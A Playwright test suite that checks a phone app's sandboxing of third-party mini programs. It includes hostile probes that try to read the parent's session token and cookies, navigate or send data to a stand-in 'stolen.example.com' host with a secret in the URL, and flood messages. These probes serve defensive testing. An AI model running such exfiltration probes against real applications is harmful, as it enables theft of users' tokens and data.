import http from 'node:http';
import type { AddressInfo } from 'node:net';
import config from '../../playwright.config.ts';
import { phoneOfBruna } from '../support/phone.ts';
import { openOnPhone, pageOf, publish } from '../support/published-applet.ts';
import { expect, type Frame, type Page, test } from '../support/test.ts';

// Names of the tests lead to servers of this machine: a policy speaks of names.
const { launchOptions } = config.use ?? {};
test.use({
  launchOptions: {
    ...launchOptions,
    args: [...(launchOptions?.args ?? []), '--host-resolver-rules=MAP *.example.com 127.0.0.1'],
  },
});

/** A server that takes everyone, and writes down what it was asked. */
const openServer = async (answer?: (request: http.IncomingMessage, response: http.ServerResponse) => boolean) => {
  const asked: string[] = [];
  const server = http.createServer((request, response) => {
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('access-control-allow-headers', '*');
    if (request.method === 'OPTIONS') return response.end();
    asked.push(`${request.method} ${request.url}`);
    if (!answer?.(request, response)) response.setHeader('content-type', 'application/json').end('{"ok":true}');
    return undefined;
  });
  server.on('upgrade', (request, socket) => {
    asked.push(`SOCKET ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  return {
    asked,
    port,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
};

/** A page is ended after five seconds without an answer: a phone that it froze would take at least as long for its own. */
const frozenMs = 4_500;

/** How long the phone itself takes to answer, at its slowest, while something goes on. */
const slowestAnswer = async (phone: Page, work: () => Promise<unknown>): Promise<number> => {
  await phone.evaluate(() => {
    const watched = globalThis as unknown as { slowest: number };
    watched.slowest = 0;
    let before = performance.now();
    const look = () => {
      const now = performance.now();
      watched.slowest = Math.max(watched.slowest, now - before);
      before = now;
      requestAnimationFrame(look);
    };
    look();
  });
  await work();
  return phone.evaluate(() => (globalThis as unknown as { slowest: number }).slowest);
};

const tried = (frame: Frame): Promise<Record<string, string>> =>
  frame.evaluate(async () => {
    const probes: Record<string, () => unknown> = {
      document: () => parent.document.title,
      storageOfThePhone: () => parent.sessionStorage.getItem('balcao.phone.token'),
      ownStorage: () => localStorage.length,
      ownDatabase: () => indexedDB.open('x'),
      cookies: () => document.cookie,
      topNavigation: () => {
        if (top) top.location.href = 'http://stolen.example.com/';
      },
      popup: () => {
        if (!open('http://stolen.example.com/')) throw new Error('no window');
      },
      serviceWorker: () => navigator.serviceWorker.register('/balcao/1.js'),
      place: () =>
        new Promise((found, failed) => navigator.geolocation.getCurrentPosition(found, () => failed(new Error('no')))),
      clipboard: () => navigator.clipboard.readText(),
      otherFrames: () => (parent.frames[0] === self && parent.length === 1 ? Promise.reject(new Error('alone')) : 1),
    };
    const came: Record<string, string> = {};
    for (const [name, probe] of Object.entries(probes)) {
      try {
        came[name] = `GOT ${String(await probe())}`;
      } catch {
        came[name] = 'refused';
      }
    }
    return came;
  });

test('the code of a mini program reads nothing of the phone and reaches no other window', async ({
  browser,
  baseURL,
}) => {
  // What a test runs in a page may use `eval`; the page itself may not.
  const script = 'try { document.title = Function("return 1")(); } catch { document.title = "no eval"; }';
  const files = { 'index.html': `${pageOf('Barraca')}<script src="eval.js"></script>`, 'eval.js': script };
  const { phone, frame } = await openOnPhone(browser, baseURL, await publish(baseURL, { files }));
  expect(await frame.title()).toBe('no eval');
  const came = await tried(frame);
  expect(Object.entries(came).filter(([, what]) => what !== 'refused')).toEqual([]);
  expect(new URL(phone.url()).pathname).toContain('/phone/applet/');
  expect(phone.context().pages()).toHaveLength(1);
});

interface Api {
  readonly balcao: { request(options: { url: string; timeout?: number }): Promise<{ status: number }> };
}
/** The result of a request to each address: the status, or the code of the error. */
const requested = (frame: Frame, urls: Readonly<Record<string, string>>): Promise<Record<string, string>> =>
  frame.evaluate(async (asked) => {
    const { balcao } = globalThis as unknown as Api;
    const came = Object.entries(asked).map(([name, url]) =>
      balcao.request({ url, timeout: 20_000 }).then(
        ({ status }) => [name, String(status)],
        ({ code }: { code: string }) => [name, code],
      ),
    );
    return Object.fromEntries(await Promise.all(came));
  }, urls);

/** The result of adding a picture, a script and a style of another host to the page. */
const loaded = (frame: Frame, origin: string): Promise<string[]> =>
  frame.evaluate((from) => {
    const script = Object.assign(document.createElement('script'), { src: `${from}/script` });
    const picture = Object.assign(document.createElement('img'), { src: `${from}/picture` });
    const style = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${from}/style` });
    const comes = (element: HTMLElement) =>
      new Promise<string>((done) => {
        element.onload = () => done('loaded');
        element.onerror = () => done('refused');
        document.body.append(element);
      });
    navigator.sendBeacon(`${from}/beacon`, 'x');
    return Promise.all([script, picture, style].map(comes));
  }, origin);

/** Opens sockets and waits until each is open or closed. */
const connected = (frame: Frame, urls: readonly string[]): Promise<string[]> =>
  frame.evaluate((asked) => {
    const socket = (url: string) =>
      new Promise<string>((done) => {
        const made = new WebSocket(url);
        made.onopen = () => done('open');
        made.onerror = () => done('refused');
        made.onclose = () => done('closed');
      }).catch(() => 'refused');
    return Promise.all(asked.map(socket));
  }, urls);

test('it reaches its legal domains and nothing else, by whatever way', async ({ browser, baseURL }) => {
  const stranger = await openServer();
  const stolen = `stolen.example.com:${stranger.port}`;
  const legal = await openServer(({ url }, response) => {
    if (url !== '/away') return false;
    response.writeHead(302, { location: `http://${stolen}/redirected` }).end();
    return true;
  });
  try {
    const applet = await publish(baseURL, {
      request: [`http://*.example.com:${legal.port}`],
      socket: [`ws://live.example.com:${legal.port}`],
    });
    const { frame } = await openOnPhone(browser, baseURL, applet);
    const came = await requested(frame, {
      legal: `http://api.example.com:${legal.port}/menu`,
      away: `http://api.example.com:${legal.port}/away`,
      stranger: `http://${stolen}/request`,
      product: `${baseURL}/app/v1/customer`,
    });
    expect(came).toEqual({ legal: '200', away: 'unreachable', stranger: 'unreachable', product: 'unreachable' });
    expect(await loaded(frame, `http://${stolen}`)).toEqual(['refused', 'refused', 'refused']);
    await connected(frame, [`ws://live.example.com:${legal.port}/live`, `ws://${stolen}/socket`]);
    // They were asked for at the same moment.
    expect(legal.asked.toSorted()).toEqual(['GET /away', 'GET /menu', 'SOCKET /live']);
    // Leaving with what it knows in the address is stopped by the phone around it.
    await frame.evaluate((host) => location.assign(`http://${host}/left?with=secret`), stolen);
    await expect.poll(() => frame.url()).toContain('chrome-error:');
    expect(stranger.asked).toEqual([]);
  } finally {
    legal.close();
    stranger.close();
  }
});

test('a page that throws wherever it can is shown, and its phone goes on', async ({ browser, baseURL }) => {
  const script =
    'addEventListener("message", () => { throw new Error("a"); }); Promise.reject("b"); throw new Error("c");';
  const files = {
    'index.html': pageOf('Erros').replace('<h1>', '<script src="errors.js"></script><h1>'),
    'errors.js': script,
  };
  const applet = await publish(baseURL, { files });
  const { phone, frame } = await openOnPhone(browser, baseURL, applet);
  await expect(frame.getByRole('heading', { name: 'Erros' })).toBeVisible();
  expect(await requested(frame, { product: `${baseURL}/` })).toEqual({ product: 'unreachable' });
  await phone.getByRole('link', { name: 'Fechar o miniprograma' }).click();
  await expect(phone.getByRole('link', { name: applet.name }).first()).toBeVisible();
});

/** Lets a page loop for ever, and waits until the phone has ended it. */
const loopUntilEnded = async (phone: Page, frame: Frame, name: string): Promise<void> => {
  // It never comes back: the frame is taken away under it.
  frame
    .evaluate(() => {
      for (;;) Math.random();
    })
    .catch(() => undefined);
  await expect(phone.getByRole('dialog', { name: `${name} não responde` })).toBeVisible();
};

test('a page that loops does not freeze the phone, and is ended', async ({ browser, baseURL }) => {
  const applet = await publish(baseURL);
  const { phone, frame } = await openOnPhone(browser, baseURL, applet);
  expect(await slowestAnswer(phone, () => loopUntilEnded(phone, frame, applet.name))).toBeLessThan(frozenMs);
  await expect(phone.locator('iframe')).toHaveCount(0);
  await phone.getByRole('button', { name: 'Abrir de novo' }).click();
  await expect(phone.frameLocator('iframe').getByRole('heading', { name: 'Barraca' })).toBeVisible();
});

test('a page that was left for one without the API is not taken for stuck', async ({ browser, baseURL }) => {
  const plain = '<!doctype html><html lang="pt-BR"><title>Só texto</title><h1>Só texto</h1>';
  const applet = await publish(baseURL, { files: { 'plain.html': plain } });
  const { phone, frame } = await openOnPhone(browser, baseURL, applet);
  await frame.evaluate(() => {
    const { balcao } = globalThis as unknown as { balcao: { navigate(to: { page: string }): void } };
    balcao.navigate({ page: 'plain.html' });
  });
  const heading = phone.frameLocator('iframe').getByRole('heading', { name: 'Só texto' });
  await expect(heading).toBeVisible();
  // By the time that another one is ended for being stuck, this one would have been, too.
  const other = await openOnPhone(browser, baseURL, applet);
  await loopUntilEnded(other.phone, other.frame, applet.name);
  await expect(phone.getByRole('dialog')).toHaveCount(0);
  await expect(heading).toBeVisible();
});

/** A page that the phone has connected to, and that misuses the port. */
const hostilePage = (script: string) => ({
  'index.html': `<!doctype html><html lang="pt-BR"><title>Enchente</title><script src="flood.js"></script><h1>Enchente</h1>`,
  'flood.js': `const { port1: port, port2 } = new MessageChannel(); parent.postMessage(null, "*", [port2]);
    const large = Array.from({ length: 200000 }, (_, at) => ({ at, text: "x".repeat(8) })); ${script}`,
});
for (const [what, flood] of [
  ['ten thousand messages at once', 'for (let at = 0; at < 10000; at += 1) parent.postMessage(at, "*");'],
  ['ten thousand calls at once', 'for (let id = 0; id < 10000; id += 1) port.postMessage({ id, call: "login" });'],
  ['objects of five megabytes again and again', 'setInterval(() => port.postMessage({ large }), 1);'],
] as const)
  test(`a page that sends ${what} is ended, and the phone goes on`, async ({ browser, baseURL }) => {
    const applet = await publish(baseURL, { files: hostilePage(flood) });
    const phone = await phoneOfBruna(browser, baseURL);
    await phone.goto('/phone/applet');
    const slowest = await slowestAnswer(phone, async () => {
      await phone.getByLabel('Procurar pelo nome').fill(applet.name);
      await phone.getByRole('link', { name: applet.name }).click();
      await expect(phone.getByRole('dialog', { name: `${applet.name} foi encerrado` })).toBeVisible();
    });
    expect(slowest).toBeLessThan(frozenMs);
    await expect(phone.locator('iframe')).toHaveCount(0);
  });

test('a page that sends large objects past its port holds up nobody: they are not unpacked', async ({
  browser,
  baseURL,
}) => {
  const files = hostilePage('setInterval(() => parent.postMessage({ large }, "*"), 1);');
  const applet = await publish(baseURL, { files });
  const phone = await phoneOfBruna(browser, baseURL);
  await phone.goto('/phone/applet');
  const slowest = await slowestAnswer(phone, async () => {
    await phone.getByLabel('Procurar pelo nome').fill(applet.name);
    await phone.getByRole('link', { name: applet.name }).click();
    await expect(phone.frameLocator('iframe').getByRole('heading', { name: 'Enchente' })).toBeVisible();
    await phone.getByRole('link', { name: 'Fechar o miniprograma' }).click();
    await expect(phone.getByRole('link', { name: applet.name }).first()).toBeVisible();
  });
  expect(slowest).toBeLessThan(frozenMs);
});

test('what the person is about to answer is not exchanged for something else', async ({ browser, baseURL }) => {
  const applet = await publish(baseURL, { permissions: ['profile', 'location'] });
  const { phone, frame } = await openOnPhone(browser, baseURL, applet);
  const came = frame.evaluate(async () => {
    const { balcao } = globalThis as unknown as {
      balcao: Record<'profile' | 'location' | 'share', () => Promise<unknown>>;
    };
    const said = (work: Promise<unknown>) => work.then(JSON.stringify, ({ code }: { code: string }) => code);
    const profile = said(balcao.profile());
    return { location: await said(balcao.location()), share: await said(balcao.share()), profile: await profile };
  });
  const sheet = phone.getByRole('dialog', { name: `Permitir que ${applet.name} faça isto?` });
  await expect(sheet).toContainText('Ver o seu primeiro nome.');
  await sheet.getByRole('button', { name: 'Permitir', exact: true }).click();
  expect(await came).toEqual({ location: 'busy', share: 'busy', profile: '{"name":"Bruna"}' });
});

test('calls beyond fifty a second are refused, and the others are answered', async ({ browser, baseURL }) => {
  const { frame } = await openOnPhone(browser, baseURL, await publish(baseURL));
  const came = await frame.evaluate(async () => {
    const { balcao } = globalThis as unknown as {
      balcao: { setTitle(title: string): void; storage: { keys(): Promise<unknown> } };
    };
    const calls = Array.from({ length: 200 }, () =>
      balcao.storage.keys().then(
        () => 'answered',
        ({ code }: { code: string }) => code,
      ),
    );
    return [...new Set(await Promise.all(calls))].sort();
  });
  expect(came).toEqual(['answered', 'busy']);
});
